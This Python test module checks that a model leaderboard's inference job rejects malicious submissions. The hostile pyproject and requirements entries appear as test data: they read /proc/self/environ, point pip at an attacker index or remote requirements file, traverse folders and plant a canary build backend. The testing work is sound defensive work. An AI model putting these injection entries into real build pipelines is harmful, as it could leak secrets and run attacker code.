"""Issue 44's attacker on the build, end to end: a code submission's pull request whose local package steers pip (an
option that prints the job's environment, a local project pip would prepare by running its backend, an index, a URL,
a requirements file fetched from a host the attacker runs, a report written where it says) or whose pyproject.toml is
shaped to break the reader, run by `python -m rexrank.backend infer` on the fake Hub. Each ends in one line on the pull
request naming the file and the entry; no token, no job folder in any comment or file the submitter can read; nothing
connects to the attacker's host; and a canary in the submission's build backend, its wheel's `.pth` and its script
says where each ran: always in a sandbox (the uid `nobody`, a PID namespace not the job's), never in the job."""

import json
import os
import re
import socket
import textwrap

import pytest
import test_inference_job
from huggingface_hub import HfApi
from test_inference_job import REPO, SCRIPT, SUBMISSION, everything, seen, start

pytestmark = [pytest.mark.subprocess, pytest.mark.slow]  # each runs the job's command (bwrap-skipped with its fixture)

hub = test_inference_job.hub  # the job test's fixture: a results repo, the private set, a submitted model
TOKEN = "hf_maintainer"
# the canary: where it ran, told by the process itself; written to a host folder (which exists only outside any
# sandbox) and printed (which reaches the pull request only through a sandboxed stage's log)
CANARY = """
def _canary(where, host):
    import json, os
    facts = {"where": where, "uid": os.getuid(), "pidns": os.readlink("/proc/self/ns/pid"),
             "token": "HF_TOKEN" in os.environ}
    try:
        with open(os.path.join(host, where + "-" + str(os.getpid()) + ".json"), "w") as handle:
            handle.write(json.dumps(facts))
    except OSError:
        pass
    print("CANARY " + json.dumps(facts), flush=True)
    return facts
"""
def backend(name: str, host: str) -> str:
    pth = "import sys; exec(" + repr(CANARY + f"_canary('pth', {host!r})") + ")\n"
    code = CANARY + f"HOST = {host!r}\nPTH = {pth!r}\n" + textwrap.dedent('''
        import base64, hashlib, json, os, zipfile
        FACTS = _canary("backend", HOST)

        def get_requires_for_build_wheel(config_settings=None):
            return []

        def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
            name = "NAME-0.1-py3-none-any.whl"
            files = {"NAME_canary.pth": PTH, "NAME_built.json": json.dumps(FACTS), "NAME-0.1.dist-info/METADATA":
                     "Metadata-Version: 2.1\\nName: NAME\\nVersion: 0.1\\nRequires-Dist: numpy\\n",
                     "NAME-0.1.dist-info/WHEEL":
                     "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
            record = ""
            with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
                for path, text in files.items():
                    wheel.writestr(path, text)
                    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
                    record += f"{path},sha256={digest},{len(text.encode())}\\n"
                wheel.writestr("NAME-0.1.dist-info/RECORD", record + "NAME-0.1.dist-info/RECORD,,\\n")
            return name
    ''').replace("NAME", name)
    return code


def pyproject(name: str, dependencies: list[str] | None = None, requires: list[str] | None = None) -> str:
    return (f'[build-system]\nrequires = {json.dumps(requires or [])}\nbuild-backend = "backend"\n'
            f'backend-path = ["."]\n[project]\nname = "{name}"\nversion = "0.1"\n'
            f'dependencies = {json.dumps(dependencies or [])}\n')


@pytest.fixture
def attacker(tmp_path):
    """The host the attacker runs (a listener on the job's loopback) and a world-writable host folder the canary
    writes to wherever it can see it."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.1)
    canaries = tmp_path / "canaries"
    canaries.mkdir()
    os.chmod(canaries, 0o777)
    yield f"http://127.0.0.1:{listener.getsockname()[1]}", canaries
    with pytest.raises(TimeoutError):
        listener.accept()  # nothing reached it: no index, no URL, no requirements file was fetched
    listener.close()


def push(files: dict[str, str]) -> None:
    from huggingface_hub import CommitOperationAdd

    HfApi().create_commit(REPO, [CommitOperationAdd(f"submissions/{SUBMISSION}/model/{p}", t.encode())
                                 for p, t in files.items()], commit_message="model", repo_type="dataset",
                          revision="refs/pr/1", token="hf_researcher")


def read_by_the_submitter(hub_, tmp_path) -> str:
    """Every comment (as rendered) and every file of every branch, the submitter's own files taken out."""
    comments = [seen(t) for pr in hub_.pull_requests(REPO, repo_type="dataset") for _, t in pr.comments]
    return "\n".join(comments) + everything(hub_)


def canaries_in(said: str, canaries) -> list[dict]:
    found = [json.loads(m) for m in re.findall(r"CANARY (\{[^}\n]*\})", said)]
    assert list(canaries.iterdir()) == []  # nothing written where only the job's own processes could write
    job_pidns = os.readlink("/proc/self/ns/pid")  # the job ran as a child of this test: its namespace is this one
    for facts in found:
        assert facts["uid"] == 65534 and facts["pidns"] != job_pidns and facts["token"] is False, facts
    return found


def routes(model: str, host: str, canaries: str) -> dict[str, tuple[dict[str, str], str]]:
    """Each attack: the files it pushes, and the start of the one line it ends in."""
    pkg2 = {"pkg2/pyproject.toml": pyproject("pkgtwo"), "pkg2/backend.py": backend("pkgtwo", canaries)}
    return {
        "environ": ({"pkg/pyproject.toml": pyproject("pkg", ["--requirement=/proc/self/environ"])},
                    "pkg/pyproject.toml [project].dependencies[0]: '--requirement=/proc/self/environ' is an option"),
        "file url": ({"pkg/pyproject.toml": pyproject("pkg", [f"evilhost @ file://{model}/pkg2"]), **pkg2},
                     "pkg/pyproject.toml [project].dependencies[0]: 'evilhost @ file://"),
        "path": ({"pkg/pyproject.toml": pyproject("pkg", [f"{model}/pkg2"]), **pkg2},
                 "pkg/pyproject.toml [project].dependencies[0]: '<job>/ ... is not a requirement"),
        "build file url": ({"pkg/pyproject.toml": pyproject("pkg", requires=[f"evilhost @ file://{model}/pkg2"]),
                            **pkg2}, "pkg/pyproject.toml [build-system].requires[0]: 'evilhost @ file://"),
        "build path": ({"pkg/pyproject.toml": pyproject("pkg", requires=[f"{model}/pkg2"]), **pkg2},
                       "pkg/pyproject.toml [build-system].requires[0]: '<job>/ ... is not a requirement"),
        "index": ({"pkg/pyproject.toml": pyproject("pkg", [f"--index-url={host}/simple"])},
                  "pkg/pyproject.toml [project].dependencies[0]: '--index-url="),
        "url": ({"pkg/pyproject.toml": pyproject("pkg", [f"x @ {host}/x.whl"])},
                "pkg/pyproject.toml [project].dependencies[0]: 'x @ http://"),
        "remote requirements": ({"pkg/pyproject.toml": pyproject("pkg", [f"-r{host}/r.txt"])},
                                "pkg/pyproject.toml [project].dependencies[0]: '-rhttp://"),
        "report": ({"pkg/pyproject.toml": pyproject("pkg", [f"--report={canaries}/report.json"])},
                   "pkg/pyproject.toml [project].dependencies[0]: '--report="),
        "dotdot": ({"requirements.txt": f"numpy\n{model}/../../..\n"},
                   "requirements.txt line 2: '<job>/ ... is a folder outside model/"),
        "dotdot relative": ({"requirements.txt": "numpy\npkg/../../..\n"}, "requirements.txt line 2: 'pkg/../../..'"),
        "not a table": ({"pkg/pyproject.toml": 'build-system = "x"\n'},
                        "pkg/pyproject.toml [build-system]: 'x' is not a table"),
        "a list": ({"pkg/pyproject.toml": "project = [1]\n"}, "pkg/pyproject.toml [project]: (a list) is not a table"),
        "dynamic": ({"pkg/pyproject.toml": "[project]\ndynamic = 5\n"},
                    "pkg/pyproject.toml [project].dynamic: (a int) is not a list"),
        "nested": ({"pkg/pyproject.toml": "x = " + "[" * 100_000 + "]" * 100_000 + "\n"},
                   "pkg/pyproject.toml: nested too deep to read"),
    }


ROUTES = list(routes("/m", "http://h", "/c"))


@pytest.mark.parametrize("route", ROUTES)
def test_each_route_into_the_package_tools_ends_in_one_line_and_runs_nothing_outside_a_sandbox(
        hub, tmp_path, monkeypatch, attacker, route):
    host, canaries = attacker
    model = tmp_path / "job" / "model"  # where the job keeps the model: the attacker guesses it
    files, says = routes(str(model), host, str(canaries))[route]
    files = {"requirements.txt": "numpy\n./pkg\n", "pkg/backend.py": backend("pkg", str(canaries)), **files}
    push(files)
    jobs, _ = start(hub, tmp_path, monkeypatch)
    assert jobs.done.returncode == 2 and "Traceback" not in jobs.done.stderr, jobs.done.stderr[-2000:]
    [error] = [line for line in jobs.done.stderr.splitlines() if line.strip()]
    assert error.startswith("rexrank.backend: error: inference job stopped at its build stage: ")
    said = [seen(t) for a, t in hub.pull_requests(REPO, repo_type="dataset")[0].comments if a == "maintainer"][-1]
    head, _, why = says.partition(" ... ")  # ` ... `: where the quoted entry may be cut (its job folder's length)
    assert said.startswith(f"rexrank inference: stopped at the build stage: {head}") and why in said
    everything_read = read_by_the_submitter(hub, tmp_path)
    assert TOKEN not in everything_read and "HF_TOKEN=" not in everything_read
    # the ledger's signing key, a secret of the job like the token (the job here gets it from the conftest)
    assert os.environ["REXRANK_LEDGER_KEY"] not in everything_read and "REXRANK_LEDGER" not in everything_read
    quoted = re.sub(r"'[^'\n]*'", "''", said)  # the entry the attacker wrote is quoted back to it: nothing else
    assert str(tmp_path) not in quoted and str(canaries) not in quoted
    assert not (canaries / "report.json").exists()
    assert canaries_in(everything_read, canaries) == []  # no backend ran: the package tools were never reached


def test_an_honest_local_package_builds_and_every_canary_was_in_a_sandbox(hub, tmp_path, monkeypatch, attacker):
    """The same package, honest: its backend runs in the build sandbox, its .pth in the run's, its script there too;
    the smoke comment shows their words (a secret-free stage's log), and no job folder."""
    host, canaries = attacker
    push({"requirements.txt": "numpy\n./pkg\n", "pkg/backend.py": backend("pkg", str(canaries)),
          "pkg/pyproject.toml": pyproject("pkg", ["numpy>=1.20"]),
          "inference.py": CANARY + f"_canary('script', {str(canaries)!r})\n" + textwrap.dedent(SCRIPT)})
    jobs, _ = start(hub, tmp_path, monkeypatch)
    assert jobs.done.returncode == 0, jobs.done.stderr[-3000:]
    said = "\n".join(seen(t) for a, t in hub.pull_requests(REPO, repo_type="dataset")[0].comments if a == "maintainer")
    assert "ran in the sandbox on 8 iu-xray studies" in said
    # the backend's facts, kept in the wheel it built (pip is quiet about a backend that succeeds), read here
    [built] = (tmp_path / "job" / "env").glob("lib/python3*/site-packages/pkg_built.json")
    found = canaries_in(said + "\nCANARY " + built.read_text(), canaries)
    assert {f["where"] for f in found} == {"backend", "pth", "script"}  # each ran, each in a sandbox
    assert TOKEN not in read_by_the_submitter(hub, tmp_path) and str(tmp_path / "job") not in said
